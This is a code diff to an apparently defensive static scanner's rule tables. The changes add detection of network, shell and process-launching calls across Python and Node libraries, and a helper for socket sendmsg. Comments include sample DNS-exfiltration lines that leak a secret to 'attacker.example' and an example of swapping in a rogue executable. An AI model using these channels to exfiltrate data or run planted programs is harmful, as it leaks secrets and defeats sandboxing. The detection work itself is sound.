@@ -47323,7 +47323,7 @@ var js = (module2, members2, category, form = "any") => ({ language: "javascript
 var OS_EXEC = ["execl", "execle", "execlp", "execlpe", "execv", "execve", "execvp", "execvpe"];
 var OS_SPAWN = ["spawnl", "spawnle", "spawnlp", "spawnlpe", "spawnv", "spawnve", "spawnvp", "spawnvpe", "posix_spawn", "posix_spawnp"];
 var CHILD_PROCESS = ["exec", "execSync", "execFile", "execFileSync", "spawn", "spawnSync", "fork"];
-var SOCKET_USE = ["connect", "connect_ex", "sendto"];
+var SOCKET_USE = ["connect", "connect_ex", "sendto", "sendmsg"];
 var socketUse = (cls) => call(...SOCKET_USE.flatMap((m) => [`${cls}${RETURNED}.${m}`, `${cls}.${m}`]));
 var EVENT_LOOPS = ["get_running_loop", "get_event_loop", "new_event_loop"];
 var SELENIUM_LOCAL = ["Chrome", "Firefox", "Edge", "ChromiumEdge", "Safari", "Ie", "WebKitGTK", "WPEWebKit"];
@@ -47335,7 +47335,7 @@ var HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch
 var SOCKET_LOOKUPS = ["getaddrinfo", "getnameinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getfqdn"];
 var LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
 var DNS_QUERIES = ["lookup", "lookupService", "resolve", "resolve4", "resolve6", "resolveAny", "resolveCaa", "resolveCname", "resolveMx", "resolveNaptr", "resolveNs", "resolvePtr", "resolveSoa", "resolveSrv", "resolveTxt", "reverse"];
-var LOOP_CONNECT = ["create_connection", "create_unix_connection", "create_datagram_endpoint", "sock_connect"];
+var LOOP_CONNECT = ["create_connection", "create_unix_connection", "create_datagram_endpoint", "sock_connect", "sock_sendto"];
 var ASYNCIO_SUBPROCESS = ["create_subprocess_exec", "create_subprocess_shell"];
 var LOOP_SUBPROCESS = ["subprocess_exec", "subprocess_shell"];
 var withAsync = (prefix, ...paths) => paths.flatMap((p) => [p, p.replace(/[^.]+$/, `${prefix}$&`)]);
@@ -47399,6 +47399,7 @@ var HF_INFERENCE_TASKS = [
   "tabularClassification",
   "tabularRegression"
 ];
+var modelEntries = (pkg, subpaths) => [pkg, ...["index", ...subpaths].flatMap((sub) => ["", ".js", ".mjs"].map((ext) => `${pkg}/${sub}${ext}`))];
 var DEFAULT_SPECS = [
   // Python \u2014 shell
   // `startfile` opens a file with the program Windows associates with it.
@@ -47440,6 +47441,8 @@ var DEFAULT_SPECS = [
       [ANY]: "call",
       ...call(...HTTP_FUNCTIONS),
       ...client("Session", "session"),
+      // A transport adapter sends a prepared request itself (`HTTPAdapter().send(p)`); made and mounted on a session, it is a value.
+      ...call(`adapters.HTTPAdapter${RETURNED}.send`),
       ...inert("Request", "PreparedRequest", "Response", "models", "exceptions", "codes", "status_codes", "utils", "structures", "auth", "HTTPBasicAuth", "HTTPDigestAuth", "adapters", "packages", "cookies", "hooks", "certs", "compat")
     },
     "network"
@@ -47454,17 +47457,22 @@ var DEFAULT_SPECS = [
     },
     "network"
   ),
-  py("urllib.request", { ...call("urlopen", "urlretrieve"), ...client("build_opener", "OpenerDirector", "URLopener", "FancyURLopener"), ...inert("Request") }, "network"),
+  // A handler opens a request itself (`HTTPHandler().http_open(req)`) as an opener does through it.
+  py("urllib.request", { ...call("urlopen", "urlretrieve", `HTTPHandler${RETURNED}.http_open`, `HTTPSHandler${RETURNED}.https_open`), ...client("build_opener", "OpenerDirector", "URLopener", "FancyURLopener"), ...inert("Request") }, "network"),
   py("http.client", client("HTTPConnection", "HTTPSConnection"), "network"),
   // An XML-RPC proxy: each method called on it is a request to the server (the construction is the finding).
-  py("xmlrpc.client", client("ServerProxy"), "network"),
+  // Its transport sends a request by itself too (`Transport().request(host, "/RPC2", body)`).
+  py("xmlrpc.client", { ...client("ServerProxy"), ...call(...["Transport", "SafeTransport"].flatMap((t) => ["request", "single_request"].map((m) => `${t}${RETURNED}.${m}`))) }, "network"),
+  // A robots.txt fetched from its URL (`RobotFileParser(u).read()`); made, set or asked, the parser is local.
+  py("urllib.robotparser", call(`RobotFileParser${RETURNED}.read`), "network"),
   // six's Python 2/3 names for the same modules (urllib3 1.26 imports http.client this way).
   py("six.moves.http_client", client("HTTPConnection", "HTTPSConnection"), "network"),
   py("six.moves.urllib.request", { ...call("urlopen", "urlretrieve"), ...client("build_opener"), ...inert("Request") }, "network"),
   // PySocks: a connection through a SOCKS proxy.
   py("socks", { ...call("create_connection"), ...inert("socksocket"), ...socketUse("socksocket") }, "network"),
   py("aiohttp", { ...client("ClientSession"), ...call("request") }, "network"),
-  py("socket", { ...call("create_connection", ...SOCKET_LOOKUPS), ...inert("socket"), ...socketUse("socket") }, "network"),
+  // `_socket` is the C module under socket, importable by name, with the same socket class and lookups.
+  ...["socket", "_socket"].map((m) => py(m, { ...call("create_connection", ...SOCKET_LOOKUPS), ...inert("socket"), ...socketUse("socket") }, "network")),
   // logging's handlers that send each record over the network (`logger.addHandler(HTTPHandler("x.example", "/"))`: any
   // `log.info(secret)` then leaves): made, they are the channel, as a client is.
   py("logging.handlers", client("HTTPHandler", "SocketHandler", "DatagramHandler", "SysLogHandler", "SMTPHandler"), "network"),
@@ -47473,6 +47481,13 @@ var DEFAULT_SPECS = [
   py("ssl", call("get_server_certificate", "create_connection", ...["wrap_socket", ...["SSLContext", "create_default_context"].map((c) => `${c}${RETURNED}.wrap_socket`)].flatMap((w) => SOCKET_USE.map((m) => `${w}${RETURNED}.${m}`))), "network"),
   // multiprocessing's connection to a listener at an address (another host's as well as this one's).
   py("multiprocessing.connection", client("Client"), "network"),
+  // A manager connected to a server at an address (`BaseManager(address=a).connect()`); a manager started here serves locally.
+  py("multiprocessing.managers", call(...["BaseManager", "SyncManager"].map((m) => `${m}${RETURNED}.connect`)), "network"),
+  // The interpreter multiprocessing starts its workers with: any program set there is run (`set_executable("/tmp/x")`).
+  py("multiprocessing", call("set_executable", `get_context${RETURNED}.set_executable`, "spawn.set_executable"), "shell"),
+  // The docker SDK: a client of the Docker daemon's API, local or remote; what it does (`containers.run`, `exec_run`:
+  // processes started in containers by the daemon) are its requests, all one finding at the construction, as Fabric's.
+  py("docker", client("from_env", "DockerClient", "APIClient", "client.from_env", "client.DockerClient", "api.APIClient", "api.client.APIClient"), "network"),
   // Fabric: an SSH connection to a host, whose `run` starts a shell there.
   py("fabric", client("Connection"), "network"),
   // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
@@ -47518,7 +47533,7 @@ var DEFAULT_SPECS = [
     "urllib3",
     {
       ...call("request"),
-      ...client("PoolManager", "ProxyManager", "HTTPConnectionPool", "HTTPSConnectionPool", "connection_from_url", "proxy_from_url", "poolmanager.PoolManager", "poolmanager.ProxyManager", "poolmanager.proxy_from_url", "connectionpool.HTTPConnectionPool", "connectionpool.HTTPSConnectionPool", "connectionpool.connection_from_url"),
+      ...client("PoolManager", "ProxyManager", "HTTPConnectionPool", "HTTPSConnectionPool", "connection_from_url", "proxy_from_url", "poolmanager.PoolManager", "poolmanager.ProxyManager", "poolmanager.proxy_from_url", "connectionpool.HTTPConnectionPool", "connectionpool.HTTPSConnectionPool", "connectionpool.connection_from_url", "connection.HTTPConnection", "connection.HTTPSConnection"),
       ...inert("exceptions", "util", "Retry", "Timeout", "HTTPResponse", "BaseHTTPResponse", "HTTPHeaderDict", "make_headers", "disable_warnings", "add_stderr_logger", "fields", "filepost", "encode_multipart_formdata")
     },
     "network"
@@ -47563,6 +47578,8 @@ var DEFAULT_SPECS = [
   // open: opens a URL or file with the system's handler (xdg-open, `start`, `open`) in a child process.
   js("open", { ...call(DEFAULT, "openApp"), ...inert("apps") }, "shell"),
   js("zx", call("$"), "shell"),
+  js("tinyexec", call("x", "xSync", "exec", "execSync"), "shell"),
+  js("@actions/exec", call("exec", "getExecOutput"), "shell"),
   js("node-pty", call("spawn", "fork", "createTerminal"), "shell"),
   // Node's internal bindings, below child_process and net, loaded by name with `process.binding(\u2026)` (deprecated, still
   // answered in Node 20 and 22): `process.binding("spawn_sync").spawn(opts)` starts a process.
@@ -47586,11 +47603,12 @@ var DEFAULT_SPECS = [
   js("http", call("request", "get"), "network", "call"),
   js("https", call("request", "get"), "network", "call"),
   // A request made by its class, and an agent's sockets opened by hand (`http.globalAgent.createConnection(opts)`).
-  js("http", call("ClientRequest"), "network", "new"),
-  ...["http", "https"].map((m) => js(m, call("globalAgent.createConnection", `Agent${RETURNED}.createConnection`), "network", "call")),
+  // Node's internal modules behind http and tls load by name too (`require("_http_client")`): the same members.
+  ...["http", "_http_client"].map((m) => js(m, call("ClientRequest"), "network", "new")),
+  ...["http", "https", "_http_agent"].map((m) => js(m, call("globalAgent.createConnection", `Agent${RETURNED}.createConnection`), "network", "call")),
   js("http2", call("connect"), "network", "call"),
   js("net", call("connect", "createConnection", `Socket${RETURNED}.connect`, `Stream${RETURNED}.connect`), "network", "call"),
-  js("tls", call("connect", `TLSSocket${RETURNED}.connect`), "network", "call"),
+  ...["tls", "_tls_wrap"].map((m) => js(m, call("connect", `TLSSocket${RETURNED}.connect`), "network", "call")),
   // A DNS query leaves the sandbox (`dns.resolveTxt(\`${secret}.attacker.example\`)`); a Resolver made is one to query with.
   js("dns", { ...call(...DNS_QUERIES, ...DNS_QUERIES.map((m) => `promises.${m}`)), ...client("Resolver", "promises.Resolver") }, "network"),
   js("dns/promises", { ...call(...DNS_QUERIES), ...client("Resolver") }, "network"),
@@ -47612,6 +47630,15 @@ var DEFAULT_SPECS = [
   js("eventsource", call(DEFAULT, "EventSource"), "network", "new"),
   js(GLOBAL, call("EventSource"), "network", "new"),
   js("@grpc/grpc-js", client("Client", "Channel"), "network", "new"),
+  // follow-redirects' own http and https (`require("follow-redirects").https.get(u)`).
+  js("follow-redirects", call(...["http", "https"].flatMap((m) => ["request", "get"].map((f) => `${m}.${f}`))), "network", "call"),
+  // GitHub's and Azure DevOps' HTTP clients, and Octokit's request function and clients.
+  js("@actions/http-client", client("HttpClient"), "network", "new"),
+  js("@octokit/request", call("request"), "network", "call"),
+  ...["@octokit/rest", "@octokit/core", "octokit"].map((m) => js(m, client("Octokit"), "network", "new")),
+  ...[["typed-rest-client", "RestClient"], ["typed-rest-client/RestClient", "RestClient"], ["typed-rest-client/HttpClient", "HttpClient"]].map(([m, c]) => js(m, client(c), "network", "new")),
+  // A proxy agent's connection opened by hand (`new HttpsProxyAgent(p).connect(req, opts)`); made, it is handed to a request.
+  ...[["https-proxy-agent", "HttpsProxyAgent"], ["http-proxy-agent", "HttpProxyAgent"], ["socks-proxy-agent", "SocksProxyAgent"]].map(([m, a]) => js(m, call(`${a}${RETURNED}.connect`), "network", "call")),
   // Browser automation: a browser launched is a process on this machine; one connected to, a connection.
   ...PLAYWRIGHT_PACKAGES.flatMap((m) => [js(m, call(...PLAYWRIGHT_BROWSERS.flatMap((b) => PLAYWRIGHT_LAUNCH.map((l) => `${b}.${l}`)), "_electron.launch", "_android.launchServer"), "shell"), js(m, call(...PLAYWRIGHT_BROWSERS.flatMap((b) => PLAYWRIGHT_CONNECT.map((c) => `${b}.${c}`)), "_android.connect"), "network")]),
   ...["puppeteer", "puppeteer-core"].flatMap((m) => [js(m, call("launch"), "shell"), js(m, call("connect"), "network")]),
@@ -47625,8 +47652,8 @@ var DEFAULT_SPECS = [
   js(GLOBAL, call(...evaluatorsOf("javascript", GLOBAL)), "code"),
   ...EVALUATOR_MODULES.javascript.map((module2) => js(module2, call(...evaluatorsOf("javascript", module2)), "code")),
   // JavaScript / TypeScript \u2014 model SDKs (client construction, module-level calls, calls on clients)
-  js("openai", { [ANY]: "call", ...client(DEFAULT, "OpenAI", "AzureOpenAI"), ...inert("toFile") }, "model"),
-  js("@anthropic-ai/sdk", { [ANY]: "call", ...client(DEFAULT, "Anthropic"), ...inert("toFile") }, "model"),
+  ...modelEntries("openai", ["client", "azure", "bedrock"]).map((m) => js(m, { [ANY]: "call", ...client(DEFAULT, "OpenAI", "AzureOpenAI", "BedrockOpenAI"), ...inert("toFile") }, "model")),
+  ...modelEntries("@anthropic-ai/sdk", ["client"]).map((m) => js(m, { [ANY]: "call", ...client(DEFAULT, "Anthropic", "BaseAnthropic"), ...inert("toFile") }, "model")),
   js("@google/generative-ai", { [ANY]: "call", ...client("GoogleGenerativeAI"), ...inert("SchemaType", "HarmCategory", "HarmBlockThreshold", "FunctionCallingMode") }, "model"),
   js("@google/genai", { [ANY]: "call", ...client("GoogleGenAI"), ...inert("Type", "HarmCategory", "HarmBlockThreshold", "createUserContent", "createPartFromUri") }, "model"),
   js("cohere-ai", { [ANY]: "call", ...client("CohereClient", "CohereClientV2") }, "model"),
@@ -55226,6 +55253,12 @@ function looksUpNumericAddress(path2, call2, constants2) {
   const address = host && host.type !== "keyword_argument" ? constants2.stringOf(host) : void 0;
   return address !== void 0 && (0, import_node_net.isIP)(address) !== 0;
 }
+function sendsToConnectedPeer(path2, call2) {
+  if (!call2 || path2.members.at(-1) !== "sendmsg") return false;
+  const args2 = namedChildrenOf(call2);
+  if (args2.some((arg) => arg.type !== "keyword_argument" && arg.type !== "comment" && arg.type.endsWith("splat"))) return false;
+  return args2.filter((arg) => arg.type !== "keyword_argument" && arg.type !== "comment").length < (path2.members.at(-2) === RETURNED ? 4 : 5);
+}
 
 // core/scan/factories.ts
 function returnsOfHanded(callees, source, known, language, handedTo2, accepts, resolve) {
@@ -58721,7 +58754,7 @@ function callsOf2(callees, args2, resolver, known, source) {
     }
     const invoked = callee.type === "attribute" && callee.childForFieldName("attribute")?.text === "__call__" ? callee.childForFieldName("object") : null;
     const path2 = invoked ? resolver.resolve(invoked, invoked.text) : (METHOD_CALLER_AT.test(text4) ? resolver.methodCalled(callee) : void 0) ?? resolver.resolve(callee, text4);
-    if (path2 && !path2.returns && !looksUpNumericAddress(path2, captured2.parent, resolver.constants)) calls.push({ start: callee.startIndex, end: callee.endIndex, callee: oneLine(text4), path: path2, form: "call", ...codeOfCall(resolver.filter, resolver.constants, source, path2, "call", captured2.parent) });
+    if (path2 && !path2.returns && !looksUpNumericAddress(path2, captured2.parent, resolver.constants) && !sendsToConnectedPeer(path2, captured2.parent)) calls.push({ start: callee.startIndex, end: callee.endIndex, callee: oneLine(text4), path: path2, form: "call", ...codeOfCall(resolver.filter, resolver.constants, source, path2, "call", captured2.parent) });
   }
   const passed = [];
   for (const arg of args2) {
